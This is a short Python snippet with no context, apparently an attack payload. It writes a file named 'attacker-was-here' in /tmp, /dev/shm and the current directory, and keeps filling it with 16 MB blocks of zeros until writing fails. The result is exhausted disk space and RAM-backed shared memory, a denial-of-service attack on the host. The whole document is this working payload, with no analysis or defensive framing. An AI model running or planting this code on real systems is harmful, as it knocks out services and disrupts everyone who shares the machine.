for folder in ("/tmp", "/dev/shm", "."):
    try:
        with open(folder + "/attacker-was-here", "wb") as file:
            while True: file.write(bytes(1 << 24))
    except OSError: pass
